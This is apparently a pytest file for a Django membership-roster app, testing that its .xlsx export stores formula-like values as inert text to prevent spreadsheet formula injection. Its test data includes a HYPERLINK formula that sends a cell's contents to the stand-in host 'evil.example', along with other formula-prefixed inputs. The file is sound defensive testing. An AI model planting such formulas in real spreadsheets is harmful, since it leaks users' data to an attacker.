"""The roster export writes text that a spreadsheet could read as a formula as inert text (issue 12).

OWASP "CSV Injection": a cell beginning with =, +, -, @, tab or carriage return may be evaluated. In an
.xlsx a formula is a ``<f>`` element; a text cell is ``t="inlineStr"`` (or ``t="s"``), which no spreadsheet
evaluates.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from partycard.registry.exporting import export_roster
from partycard.registry.importing import import_roster
from partycard.registry.models import Member
from partycard.registry.roster import COLUMNS

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
NAME = COLUMNS.index(next(c for c in COLUMNS if c.field == "full_name"))
OCCUPATION = COLUMNS.index(next(c for c in COLUMNS if c.field == "occupation"))


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize(
    "occupation", ["+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1+1", "＝1+1", "=1+1", "#N/A"]
)
def test_no_exported_text_is_a_formula(tree, make_member, tmp_path: Path, occupation: str) -> None:
    make_member(full_name=HYPERLINK, occupation=occupation)
    out = tmp_path / "r.xlsx"
    assert export_roster(tree.hanoi, out) == 1
    xml = _sheet_xml(out)
    assert "<f>" not in xml and "<f " not in xml  # today: <c t="str"><f>HYPERLINK(…)</f></c>
    sheet = load_workbook(out).worksheets[0]
    name_cell, occupation_cell = sheet.cell(2, NAME + 1), sheet.cell(2, OCCUPATION + 1)
    assert (name_cell.data_type, name_cell.value) == ("s", HYPERLINK)
    assert occupation_cell.data_type == "s"
    # the quote prefix (Excel's own "'" marker) keeps the cell text if someone edits it
    assert name_cell.quotePrefix
    if occupation[0] in "=+-@\t\r＝":
        assert occupation_cell.quotePrefix
    assert len(re.findall(r'quotePrefix="1"', zipfile.ZipFile(out).read("xl/styles.xml").decode())) >= 1


def test_ordinary_text_gets_no_quote_prefix(tree, make_member, tmp_path: Path) -> None:
    make_member(occupation="Giáo viên")
    out = tmp_path / "r.xlsx"
    export_roster(tree.hanoi, out)
    cell = load_workbook(out).worksheets[0].cell(2, OCCUPATION + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("Giáo viên", "s", False)


def test_a_formula_like_value_is_kept_as_text_by_import_and_export(tree, make_member, tmp_path: Path) -> None:
    """docs/import-format.md: such a value is imported as text, and exported again as inert text."""
    make_member(full_name="Nguyễn Văn An", occupation=HYPERLINK)
    out = tmp_path / "r.xlsx"
    export_roster(tree.hanoi, out)
    Member.objects.all().delete()
    result = import_roster(out, actor=None)
    assert result.ok, result.problems
    assert Member.objects.get().occupation == HYPERLINK
